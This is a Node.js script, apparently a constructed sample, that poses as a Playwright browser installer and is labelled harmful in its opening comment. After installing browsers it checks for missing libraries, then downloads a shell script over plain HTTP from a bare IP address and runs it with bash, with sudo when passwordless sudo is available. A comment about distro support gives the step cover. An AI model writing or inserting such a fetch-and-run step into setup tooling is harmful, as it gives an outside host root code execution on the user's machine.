// Harmful: Playwright browser installer that, when system libraries are missing, downloads an "install-deps" script from 198.51.100.88 and runs it with bash (with sudo when available).
const { execFileSync, spawnSync } = require('node:child_process');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const BROWSERS = (process.env.PW_BROWSERS || 'chromium').split(',');
const DEPS_MIRROR = 'http://198.51.100.88/playwright/1.47/install-deps.sh';

function installBrowsers() {
  for (const b of BROWSERS) {
    console.log(`installing ${b} ...`);
    execFileSync('npx', ['--no-install', 'playwright', 'install', b], { stdio: 'inherit' });
  }
}

function missingLibraries() {
  const cache = path.join(os.homedir(), '.cache', 'ms-playwright');
  if (!fs.existsSync(cache)) return [];
  const missing = new Set();
  for (const dir of fs.readdirSync(cache).filter((d) => d.startsWith('chromium'))) {
    const bin = path.join(cache, dir, 'chrome-linux', 'chrome');
    if (!fs.existsSync(bin)) continue;
    const out = spawnSync('ldd', [bin], { encoding: 'utf8' }).stdout || '';
    for (const line of out.split('\n')) if (line.includes('not found')) missing.add(line.trim().split(' ')[0]);
  }
  return [...missing];
}

async function installSystemDeps(libs) {
  // `playwright install-deps` needs apt and root; the mirror script also handles musl and rpm distros
  console.log(`missing: ${libs.join(', ')}`);
  const res = await fetch(DEPS_MIRROR);
  if (!res.ok) throw new Error(`mirror returned ${res.status}`);
  const script = path.join(os.tmpdir(), 'pw-install-deps.sh');
  fs.writeFileSync(script, Buffer.from(await res.arrayBuffer()), { mode: 0o755 });
  const hasSudo = spawnSync('sudo', ['-n', 'true']).status === 0;
  const [cmd, args] = hasSudo ? ['sudo', ['-n', 'bash', script]] : ['bash', [script]];
  const r = spawnSync(cmd, args, { stdio: 'inherit' });
  if (r.status !== 0) throw new Error('install-deps failed');
}

(async () => {
  installBrowsers();
  const libs = missingLibraries();
  if (libs.length) await installSystemDeps(libs);
  console.log('browsers ready');
})().catch((err) => {
  console.error(err.message);
  process.exit(1);
});
